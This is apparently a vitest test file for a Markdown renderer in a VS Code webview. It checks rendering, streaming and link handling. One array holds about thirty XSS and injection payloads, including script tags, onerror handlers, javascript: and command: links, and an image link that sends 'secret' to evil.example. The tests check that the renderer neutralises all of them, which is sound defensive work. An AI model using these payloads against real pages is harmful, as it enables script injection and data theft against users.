// @vitest-environment jsdom
import { expect, test, vi } from "vitest";
import { MarkdownView } from "./markdown.ts";

// jsdom has no matchMedia, which the toolkit asks about forced colours while it is imported.
vi.hoisted(() => {
  const never = { matches: false, addEventListener: () => {}, addListener: () => {} };
  Object.assign(window, { matchMedia: () => never });
});

const actions = { copy: vi.fn(), insert: vi.fn(), openLink: vi.fn() };

function render(text: string): HTMLElement {
  const view = new MarkdownView(actions);
  view.update(text);
  return view.element;
}

/** Text grows one character at a time, as a stream does in the worst case. */
function stream(text: string): HTMLElement {
  const view = new MarkdownView(actions);
  for (let end = 1; end <= text.length; end++) view.update(text.slice(0, end));
  return view.element;
}

const page = `# Title

Some *words*, \`code\` and **more**.

\`\`\`ts
const a = "<b>";
\`\`\`

- one
- two
  1. nested

| a | b |
| - | -: |
| 1 | 2 |

> quoted

Last.`;

test("what Markdown means is shown", () => {
  const shown = render(page);
  expect([...shown.children].map((child) => child.className || child.tagName)).toEqual([
    "H1",
    "P",
    "code-block",
    "UL",
    "table",
    "BLOCKQUOTE",
    "P",
  ]);
  expect(shown.querySelector("pre")?.textContent).toBe('const a = "<b>";');
  expect(shown.querySelector(".hljs-keyword")?.textContent).toBe("const");
  expect(shown.querySelector("ol li")?.textContent).toBe("nested");
});

test("a text that was streamed looks as if it had come at once", () => {
  expect(stream(page).innerHTML).toBe(render(page).innerHTML);
});

test("blocks that are complete keep their elements while more is written", () => {
  const view = new MarkdownView(actions);
  view.update("First.\n\n```ts\nconst a");
  const [first, code] = view.element.children;
  const pre = view.element.querySelector("pre");
  view.update("First.\n\n```ts\nconst a = 1;\nconst b = 2;");
  expect([...view.element.children]).toEqual([first, code]);
  expect(view.element.querySelector("pre")).toBe(pre);
  expect(pre?.textContent).toBe("const a = 1;\nconst b = 2;");
});

test("a text that became another one leaves nothing of the old behind", () => {
  const view = new MarkdownView(actions);
  view.update(page);
  view.update("Only this.");
  expect(view.element.innerHTML).toBe("<p>Only this.</p>");
  view.update("");
  expect(view.element.innerHTML).toBe("");
});

test("a block that appears between others is put between them", () => {
  const view = new MarkdownView(actions);
  view.update("One.\n\nTwo.\n\nThree.");
  view.update("One.\n\n# New\nTwo.\n\nThree.\n\nFour.");
  expect(view.element.innerHTML).toBe("<p>One.</p><h1>New</h1><p>Two.</p><p>Three.</p><p>Four.</p>");
});

test("a block of raw HTML is a paragraph of text", () => {
  expect(render("<div>\nhello\n</div>").innerHTML).toBe("<p>&lt;div&gt;\nhello\n&lt;/div&gt;</p>");
});

const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![a](https://evil.example/?d=secret)",
  '![a](x "onerror=alert(1)")',
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](command:workbench.action.quit)",
  "[x](vscode://evil)",
  "[x](//evil.example)",
  '[x](https://example.org/"onmouseover="alert(1))',
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "<https://example.org/<script>>",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>`",
  "<style>*{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=a><button>go</button></form>",
  "<div style='background:url(https://evil.example)'>x</div>",
  "<x-y onclick=alert(1) style=color:red>z</x-y>",
  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "- [ ] <script>alert(1)</script>",
  "[a]: https://evil.example/x.png\n\n![a][a] ![a]",
  "<vscode-button onclick=alert(1)>Restart</vscode-button>",
];

test.each(hostile)("nothing runs, loads or navigates in %s", (text) => {
  for (const shown of [render(text), stream(text)]) {
    const framed = new Set(shown.querySelectorAll(".code-block vscode-button, .code-block vscode-button *"));
    for (const made of shown.querySelectorAll("*")) {
      if (framed.has(made)) continue;
      expect(made.localName).toMatch(
        /^(p|h[1-6]|blockquote|ul|ol|li|strong|em|del|code|pre|a|span|div|table|thead|tbody|tr|th|td|br|hr)$/,
      );
      const allowed = ["class", "data-href", "data-language", "role", "tabindex", "title", "start", "align"];
      for (const { name } of made.attributes) expect(allowed).toContain(name);
      const address = made.getAttribute("data-href");
      if (address !== null) expect(address).toMatch(/^https?:\/\//);
    }
  }
});

test("raw HTML is shown as the text it is", () => {
  expect(render("a <b onclick=x>bold</b> c").textContent).toBe("a <b onclick=x>bold</b> c");
});

test("an image is named, with its address, and not loaded", () => {
  expect(render("![chart](https://evil.example/c.png)").textContent).toBe("[image: chart, https://evil.example/c.png]");
});

test("a link shows where it leads, and only the host may open it", () => {
  const shown = render("[the docs](https://example.org/a)");
  expect(shown.textContent).toBe("the docs (https://example.org/a)");
  const link = shown.querySelector("a");
  expect(link?.hasAttribute("href")).toBe(false);
  link?.click();
  expect(actions.openLink).toHaveBeenLastCalledWith("https://example.org/a");
});

test("a plain address is not shown twice", () => {
  expect(render("See https://example.org/a.").textContent).toBe("See https://example.org/a.");
});

test("copying code copies what was written, not what is coloured", () => {
  const shown = render("```ts\nconst a = b < 1 && '<i>';\n```");
  shown.querySelector<HTMLElement>(".code-bar vscode-button")?.click();
  expect(actions.copy).toHaveBeenLastCalledWith("const a = b < 1 && '<i>';");
});

test("code in an unknown language is shown as it is", () => {
  expect(render("```brainfuck\n+<>-\n```").querySelector("code")?.innerHTML).toBe("+&lt;&gt;-");
});
